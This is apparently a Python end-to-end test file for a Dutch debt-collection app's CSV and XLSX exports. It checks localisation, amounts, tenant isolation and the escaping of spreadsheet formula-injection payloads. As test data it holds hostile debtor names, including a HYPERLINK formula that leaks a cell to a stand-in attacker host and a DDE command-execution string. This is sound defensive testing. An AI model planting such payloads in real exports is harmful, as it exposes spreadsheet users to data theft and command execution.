"""The client's exports through the real handlers on moto: what each file holds, in the client's
language, amounts as Dutch Excel reads them, formula payloads from a debtor list neutralised, and
another client's exports answering 404."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from chalicelib import bootstrap
from infra.local.demo_data import DEMO_CLIENT, DEMO_LIST
from infra.local.login_pool import add_user, id_token
from tests.e2e.conftest import Pipeline

CLIENT = DEMO_CLIENT.client_id
# Debtor names a spreadsheet would run as formulas (CSV injection), as a client's list may hold them.
PAYLOADS = {
    "20001": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "20002": "+31 6 cmd|' /C calc'!A0",
    "20003": "-2+3",
    "20004": "@SUM(1+1)",
    "20005": "\t=1+1",
}
ROWS = "".join(
    f"{debtor};{name.replace(';', ',')};Particulier;x{debtor}@example.nl;;F-{debtor};01-10-2026;15-10-2026;€ 10,00;€ 10,00\n"
    for debtor, name in PAYLOADS.items()
)
LIST = DEMO_LIST.replace("Totaal;", ROWS + "Totaal;")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def imported(pipeline: Pipeline) -> None:
    pipeline.upload(body=LIST)
    pipeline.import_uploads()


def download(pipeline: Pipeline, name: str, headers: dict[str, str] | None = None) -> Any:
    return pipeline.chalice.http.get(
        f"/clients/{CLIENT}/exports/{name}", headers={**(headers or pipeline.owner), "Accept": "*/*"}
    )


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_the_dossiers_csv_lists_every_dossier_in_dutch_with_decimal_commas(pipeline: Pipeline) -> None:
    imported(pipeline)
    response = download(pipeline, "dossiers.csv")
    assert response.status_code == 200, response.body
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{CLIENT}-dossiers.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = csv_rows(response.body)
    assert header == [
        "Debiteurnummer",
        "Naam",
        "Status",
        "Openstaand (EUR)",
        "Totaal verschuldigd (EUR)",
        "Oudste vervaldatum",
        "Betwist",
        "Betalingsregeling",
        "Laatste kanaal",
    ]
    assert len(rows) == 12 + len(PAYLOADS)
    smit = next(r for r in rows if r[0] == "10003")
    assert smit == [
        "10003",
        "Bakkerij Smit B.V.",
        "open",
        "1670,50",
        "1670,50",
        "2026-10-15",
        "nee",
        "nee",
        "geen",
    ]


def test_every_formula_payload_is_neutralised_in_csv_and_xlsx(pipeline: Pipeline) -> None:
    imported(pipeline)
    rows = {r[0]: r for r in csv_rows(download(pipeline, "dossiers.csv").body)[1:]}
    book = load_workbook(io.BytesIO(download(pipeline, "dossiers.xlsx").body), read_only=True)
    cells = {str(r[0].value): r for r in book["Dossiers"].iter_rows(min_row=2)}
    for debtor, name in PAYLOADS.items():
        stored = name.replace(";", ",").strip()  # the import trims the tab
        assert rows[debtor][1] == "'" + stored, debtor
        assert cells[debtor][1].value == "'" + stored, debtor
        assert cells[debtor][1].data_type == "s", debtor
    # Amounts stay numbers (summable), the due date a date.
    smit = cells["10003"]
    assert (smit[3].value, smit[3].data_type) == (1670.5, "n")
    assert smit[5].value == datetime(2026, 10, 15)


def test_payments_are_exported_with_their_date_and_split_in_english_for_an_english_client(
    pipeline: Pipeline,
) -> None:
    bootstrap.client_directory().save(dataclasses.replace(DEMO_CLIENT, language="en"))
    imported(pipeline)
    pipeline.sweep_and_act(pipeline.now)
    link = pipeline.dossier("10001").payment_link
    assert link is not None
    payment_id = pipeline.pay_link(link.checkout_url)
    assert pipeline.webhook(f"id={payment_id}").status_code == 200

    header, *rows = csv_rows(download(pipeline, "payments.csv").body)
    assert header[:5] == ["Debtor number", "Name", "Payment", "Date", "Amount (EUR)"]
    (row,) = rows
    assert row[:3] == ["10001", "Jan de Vries", payment_id]
    assert date.fromisoformat(row[3])
    assert row[4:] == ["185,00", "0,00", "0,00", "0,00", "0,00", "2026-0412"]

    response = download(pipeline, "payments.xlsx")
    assert response.headers["Content-Type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.body), read_only=True)["Payments"]
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    assert values[0][0] == "Debtor number"
    assert values[1][:3] == ["10001", "Jan de Vries", payment_id] and values[1][4] == 185.0


@pytest.mark.parametrize("name", ["dossiers.csv", "dossiers.xlsx", "payments.csv", "payments.xlsx"])
def test_another_clients_exports_answer_404_and_a_viewer_may_download(pipeline: Pipeline, name: str) -> None:
    imported(pipeline)
    other = pipeline.chalice.http.get(
        f"/clients/vv-de-kievit/exports/{name}", headers={**pipeline.owner, "Accept": "*/*"}
    )
    assert other.status_code == 404
    assert json.loads(other.body) == {"message": "no client is registered as 'vv-de-kievit'"}
    assert pipeline.chalice.http.get(f"/clients/{CLIENT}/exports/{name}").status_code == 401
    add_user(pipeline.login, "kijker@zwaluwen.example", "Viewer-Passw0rd-1", CLIENT, "viewer")
    viewer = {
        "Authorization": f"Bearer {id_token(pipeline.login, 'kijker@zwaluwen.example', 'Viewer-Passw0rd-1')}"
    }
    assert download(pipeline, name, viewer).status_code == 200
